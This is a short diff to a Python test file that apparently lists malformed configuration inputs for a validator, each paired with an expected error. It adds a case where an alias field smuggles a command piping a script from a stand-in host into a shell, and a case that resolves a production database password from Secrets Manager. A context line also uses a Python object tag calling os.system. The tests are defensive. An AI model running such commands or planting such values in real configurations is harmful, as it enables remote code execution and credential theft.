@@ -168,6 +168,8 @@ at("escaped-nul-in-text", "system: {name: Corpus}", 'system: {name: Corpus, desc
 at("noncharacter-in-text", "system: {name: Corpus}", 'system: {name: "Corpus\\uFFFF"}', "system:", "U+FFFF")
 at("overrides-empty", "    log_group: fn-logs\n", "    log_group: fn-logs\n    overrides:\n", "overrides:", "expected a mapping")
 at("tagged-key", "    type: sqs-queue\n", "    type: sqs-queue\n    !!python/object:os.system fifo: true\n", "fifo: true", "not allowed")
+at("lambda-alias-shell", "    timeout: 10\n", '    timeout: 10\n    alias: "live; curl https://evil.example | sh"\n', "alias:", "not in the expected form")
+at("cloudformation-dynamic-reference", "{from: api, to: fn, action: Invoke}", '{from: api, to: fn, action: "Invoke with {{resolve:secretsmanager:prod-db:SecretString:password}}"}', "resolve:secretsmanager", "CloudFormation dynamic reference")
 at("long-text-value", "system: {name: Corpus}", "system: {name: Corpus, description: '" + "x" * 70000 + "'}", "system:", "characters")
 
 for old in OUT.iterdir():
